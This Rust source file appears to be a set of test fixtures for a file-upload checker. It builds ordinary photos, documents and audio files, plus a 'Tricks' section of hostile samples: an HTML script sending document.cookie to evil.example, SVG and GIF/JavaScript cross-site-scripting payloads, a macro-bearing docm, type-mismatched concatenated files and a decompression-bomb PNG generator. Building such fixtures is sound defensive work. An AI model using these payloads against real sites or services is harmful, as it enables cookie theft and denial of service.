//! Files as people send them, and as tricksters do: each made here, byte by byte.

use std::io::{Cursor, Write};

use image::{ExtendedColorType, ImageEncoder, RgbImage, codecs::jpeg::JpegEncoder, codecs::png::PngEncoder};

/// Where the photo was taken, as a phone writes it into the file.
pub const PLACE: &str = "GPS-16.4637N-107.5909E";

/// A photo of a farm, red on the left, blue on the right, with what the phone knows of place and maker.
pub fn photo() -> Vec<u8> {
    photo_of(320, 240)
}

pub fn photo_of(width: u32, height: u32) -> Vec<u8> {
    let plain = bare_jpeg(width, height);
    let words = [PLACE.as_bytes(), b" Nokia 3310"].concat();
    let exif =
        [b"Exif\0\0MM\0\x2a\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0".as_slice(), &words].concat();
    let length = (exif.len() as u16 + 2).to_be_bytes();
    [&plain[..2], &[0xFF, 0xE1], &length, &exif, &plain[2..]].concat()
}

pub fn bare_jpeg(width: u32, height: u32) -> Vec<u8> {
    let picture = RgbImage::from_fn(width, height, |x, y| {
        if x < width / 2 { image::Rgb([200, 30, (y % 50) as u8]) } else { image::Rgb([20, (x % 60) as u8, 210]) }
    });
    let mut bytes = Vec::new();
    JpegEncoder::new_with_quality(&mut bytes, 85).encode_image(&picture).expect("a photo");
    bytes
}

pub fn png() -> Vec<u8> {
    let mut bytes = Vec::new();
    PngEncoder::new(&mut bytes).write_image(&[90; 12 * 12 * 3], 12, 12, ExtendedColorType::Rgb8).expect("a picture");
    // What a phone's screenshot says of itself.
    let text = [b"tEXtComment\0".as_slice(), PLACE.as_bytes()].concat();
    let length = (text.len() as u32 - 4).to_be_bytes();
    let sum = crc(&text).to_be_bytes();
    let end = bytes.len() - 12;
    [&bytes[..end], &length, &text, &sum, &bytes[end..]].concat()
}

pub fn webp() -> Vec<u8> {
    let mut bytes = Vec::new();
    let picture = [70; 16 * 16 * 3];
    image::codecs::webp::WebPEncoder::new_lossless(&mut bytes)
        .write_image(&picture, 16, 16, ExtendedColorType::Rgb8)
        .expect("a picture");
    bytes
}

pub fn heic() -> Vec<u8> {
    let head = boxed(b"ftyp", b"heic\0\0\0\0mif1heic");
    [head, boxed(b"meta", PLACE.as_bytes())].concat()
}

pub fn pdf() -> Vec<u8> {
    pdf_of(2_000)
}

/// So many bytes exactly.
pub fn pdf_of(bytes: usize) -> Vec<u8> {
    let mut pdf = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n% ".to_vec();
    pdf.resize(bytes, b'.');
    pdf
}

pub fn docx() -> Vec<u8> {
    zip(&["[Content_Types].xml", "_rels/.rels", "word/document.xml"])
}

pub fn xlsx() -> Vec<u8> {
    zip(&["[Content_Types].xml", "xl/workbook.xml"])
}

pub fn doc() -> Vec<u8> {
    compound(&["/WordDocument", "/1Table"])
}

pub fn xls() -> Vec<u8> {
    compound(&["/Workbook"])
}

pub fn mp3() -> Vec<u8> {
    let frame = [[0xFF, 0xFB, 0x90, 0x00].as_slice(), &[0; 413]].concat();
    [b"ID3\x03\0\0\0\0\0\0".to_vec(), frame.repeat(400)].concat()
}

/// As an Android phone records: no brand of its own, one track of sound.
pub fn m4a() -> Vec<u8> {
    movie(&[b"soun"])
}

pub fn ogg() -> Vec<u8> {
    [b"OggS\0\x02".as_slice(), &[0; 22], b"OpusHead\x01\x01", &[0; 300]].concat()
}

// ---- Tricks ----

pub fn video() -> Vec<u8> {
    movie(&[b"vide", b"soun"])
}

pub fn html() -> Vec<u8> {
    b"<!doctype html><script>document.location='http://evil.example/'+document.cookie</script>".to_vec()
}

pub fn svg() -> Vec<u8> {
    b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>".to_vec()
}

pub fn exe() -> Vec<u8> {
    [b"MZ\x90\0".as_slice(), &[0; 200], b"This program cannot be run in DOS mode."].concat()
}

pub fn gif() -> Vec<u8> {
    b"GIF89a/*\0\0\0\0*/=1;alert(1)//".to_vec()
}

pub fn plain_zip() -> Vec<u8> {
    zip(&["thu-moi.txt"])
}

/// A paper with a program in it.
pub fn docm() -> Vec<u8> {
    zip(&["[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"])
}

/// A page that says further on that it is a PDF.
pub fn html_then_pdf() -> Vec<u8> {
    [html(), pdf()].concat()
}

/// A paper with a page hanging on behind it.
pub fn docx_then_html() -> Vec<u8> {
    [docx(), html()].concat()
}

/// Says that it is 60,000 pixels high and wide: ten gigabytes.
pub fn vast_png() -> Vec<u8> {
    let mut bytes = png();
    bytes[16..20].copy_from_slice(&60_000_u32.to_be_bytes());
    bytes[20..24].copy_from_slice(&60_000_u32.to_be_bytes());
    let sum = crc(&bytes[12..29]).to_be_bytes();
    bytes[29..33].copy_from_slice(&sum);
    bytes
}

/// A real picture of 11,000 × 11,000 pixels in a few kilobytes: 360 MB when it is unpacked.
pub fn bomb_png() -> Vec<u8> {
    let side = 11_000_u32;
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    let head = [&side.to_be_bytes(), &side.to_be_bytes(), [8, 2, 0, 0, 0].as_slice()].concat();
    let row = vec![0; side as usize * 3 + 1];
    for (kind, content) in [(b"IHDR", head), (b"IDAT", zeros(row.len() * side as usize)), (b"IEND", Vec::new())] {
        let part = [kind.as_slice(), &content].concat();
        bytes.extend([&(content.len() as u32).to_be_bytes(), part.as_slice(), &crc(&part).to_be_bytes()].concat());
    }
    bytes
}

/// A zlib stream of so many zero bytes, as small as it gets: runs of 258.
fn zeros(count: usize) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.put(0x78, 8);
    bits.put(0x01, 8);
    bits.put(0b011, 3); // last block, fixed codes
    bits.put_code(0b0011_0000, 8); // one zero byte
    let (runs, rest) = ((count - 1) / 258, (count - 1) % 258);
    for _ in 0..runs {
        bits.put_code(0b1100_0101, 8); // length 258
        bits.put_code(0, 5); // distance 1
    }
    (0..rest).for_each(|_| bits.put_code(0b0011_0000, 8));
    bits.put_code(0, 7);
    let mut bytes = bits.bytes();
    // Adler-32 of zeros: the first sum stays 1, the second counts.
    let sum = ((count % 65_521) as u32) << 16 | 1;
    bytes.extend(sum.to_be_bytes());
    bytes
}

#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    now: u32,
    count: u32,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        for n in 0..count {
            self.now |= (value >> n & 1) << self.count;
            self.count += 1;
            if self.count == 8 {
                self.bytes.push(self.now as u8);
                (self.now, self.count) = (0, 0);
            }
        }
    }

    /// Codes stand with their highest bit first.
    fn put_code(&mut self, value: u32, count: u32) {
        (0..count).rev().for_each(|n| self.put(value >> n & 1, 1));
    }

    fn bytes(mut self) -> Vec<u8> {
        if self.count > 0 {
            self.bytes.push(self.now as u8);
        }
        self.bytes
    }
}

fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| if sum & 1 == 1 { sum >> 1 ^ 0xEDB8_8320 } else { sum >> 1 })
    })
}

fn boxed(kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    [&(content.len() as u32 + 8).to_be_bytes(), kind.as_slice(), content].concat()
}

fn movie(handlers: &[&[u8; 4]]) -> Vec<u8> {
    let track = |handler: &&[u8; 4]| {
        boxed(b"trak", &boxed(b"mdia", &boxed(b"hdlr", &[&[0; 8], handler.as_slice(), &[0; 12]].concat())))
    };
    let tracks: Vec<u8> = handlers.iter().flat_map(track).collect();
    let head = boxed(b"ftyp", b"mp42\0\0\0\0isommp42");
    [head, boxed(b"mdat", &[7; 150_000]), boxed(b"moov", &tracks)].concat()
}

fn zip(names: &[&str]) -> Vec<u8> {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    for name in names {
        let at = (bytes.len() as u32).to_le_bytes();
        let length = (name.len() as u16).to_le_bytes();
        bytes.extend([b"PK\x03\x04".as_slice(), &[0; 22], &length, &[0; 2], name.as_bytes()].concat());
        directory.extend([b"PK\x01\x02".as_slice(), &[0; 24], &length, &[0; 12], &at, name.as_bytes()].concat());
    }
    let count = (names.len() as u16).to_le_bytes();
    let (size, at) = ((directory.len() as u32).to_le_bytes(), (bytes.len() as u32).to_le_bytes());
    let end = [b"PK\x05\x06".as_slice(), &[0; 4], &count, &count, &size, &at, &[0; 2]].concat();
    [bytes, directory, end].concat()
}

fn compound(streams: &[&str]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("a compound file");
    for name in streams {
        file.create_stream(name).expect("a stream").write_all(&[1; 6_000]).expect("written");
    }
    file.flush().expect("flushed");
    file.into_inner().into_inner()
}
